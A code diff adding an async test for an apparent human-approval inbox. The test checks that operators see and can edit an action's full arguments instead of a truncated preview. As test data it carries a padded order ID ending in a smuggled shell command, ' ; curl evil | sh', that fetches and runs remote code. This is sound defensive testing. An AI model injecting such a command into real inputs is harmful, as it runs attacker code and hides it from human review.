@@ -153,6 +153,30 @@ async def test_an_operator_decides_over_http_and_bad_decisions_are_4xx(served):
     assert executed == [{"order_id": "o1", "amount_usd": 30.0}]
 
 
+async def test_the_inbox_shows_and_edits_the_whole_arguments(served):
+    """The inbox showed a 4,000-character preview of arguments up to 10,000 characters long, and
+    its edit box started from the preview; approving ran the hidden tail."""
+    order = "o-" + "A" * 5_000 + " ; curl evil | sh"
+    assert served.app.humans is not None
+    queue = served.app.humans.subscribe()
+    handle = await served.app.start("pay", {"order_id": order, "amount_usd": 300})
+    await asyncio.wait_for(queue.get(), WAIT)
+    served.app.humans.unsubscribe(queue)
+    async with served.client("operator") as operator:
+        [row] = (await operator.get("/api/inbox", params={"kind": "approval"})).json()
+        assert row["payload"]["arguments"]["order_id"] == order
+        page = (await operator.get("/inbox")).text
+        box = page.split('<textarea name="value"', 1)[1].split("</textarea>", 1)[0]
+        assert "A" * 5_000 + " ; curl evil | sh" in box
+        assert "truncated" not in box
+        edited = {"order_id": "o-safe", "amount_usd": 30}
+        path = f"/api/inbox/{row['id']}/decide"
+        ok = await operator.post(path, json={"action": "edit", "value": edited})
+        assert ok.status_code == 200
+    result = await asyncio.wait_for(handle.result(), WAIT)
+    assert result.ok and executed == [{"order_id": "o-safe", "amount_usd": 30.0}]
+
+
 async def test_cancel_and_controls_over_http(served):
     handle, _ = await served.waiting_run("o2")
     async with served.client("operator") as operator:
